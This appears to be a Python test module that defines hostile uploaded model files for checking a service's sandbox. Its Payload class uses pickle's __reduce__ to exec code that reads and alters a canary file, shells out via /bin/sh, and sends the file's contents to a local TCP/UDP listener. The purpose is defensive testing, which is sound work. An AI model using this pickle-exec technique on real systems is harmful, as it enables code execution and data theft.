"""What a hostile upload is, and what it is after."""

from __future__ import annotations

import textwrap
from collections.abc import Callable
from dataclasses import dataclass, field
from pathlib import Path
from typing import Any, Literal


@dataclass(frozen=True)
class Lure:
    """What payloads touch, read and call, where everybody can see it.

    Attributes:
        canary: A file outside of all that a job may see; its content is `secret`.
        secret: Text that must turn up nowhere.
        port: Of a listener on this machine, TCP and UDP.
    """

    canary: Path
    secret: str
    port: int

    @property
    def code(self) -> str:
        """Python that reads the canary, changes it, and calls the listener."""
        return textwrap.dedent(f"""
            import os, socket, subprocess
            found = ""
            try:
                found = open({str(self.canary)!r}).read()
            except Exception:
                pass
            try:
                open({str(self.canary)!r}, "a").write("touched")
            except Exception:
                pass
            try:
                subprocess.run(["/bin/sh", "-c", "echo touched >> {self.canary}"])
            except Exception:
                pass
            try:
                with socket.create_connection(("127.0.0.1", {self.port}), 2) as line:
                    line.sendall(found.encode() + b"called")
            except Exception:
                pass
            try:
                socket.socket(socket.AF_INET, socket.SOCK_DGRAM).sendto(b"called", ("127.0.0.1", {self.port}))
            except Exception:
                pass
        """)


class Payload:
    """Runs `Lure.code` where a pickle of it is loaded."""

    def __init__(self, lure: Lure) -> None:
        self._code = lure.code

    def __reduce__(self) -> tuple[Any, ...]:
        return exec, (self._code,)


@dataclass(frozen=True)
class Case:
    """A file that somebody uploads to do harm.

    Attributes:
        name: What is wrong with it.
        codes: With which it may be refused; none where it works.
        content: Makes the upload.
        kind: What it is registered as.
        body: Further fields of the registration.
        beside: External data by name.
        filename: That the upload is announced with.
        job: Outcomes that a job on it may have, where it is accepted: `succeeded`, or an error's code. None runs none.
    """

    name: str
    codes: frozenset[str]
    content: Callable[[Lure], bytes]
    kind: Literal["models", "datasets"] = "models"
    body: dict[str, Any] = field(default_factory=dict)
    beside: dict[str, Callable[[Lure], bytes]] = field(default_factory=dict)
    filename: str = "model.onnx"
    job: frozenset[str] | None = None


def codes(*names: str) -> frozenset[str]:
    """Codes of a case."""
    return frozenset(names)


def constant(data: bytes) -> Callable[[Lure], bytes]:
    """Content that does not depend on the lure."""
    return lambda _: data
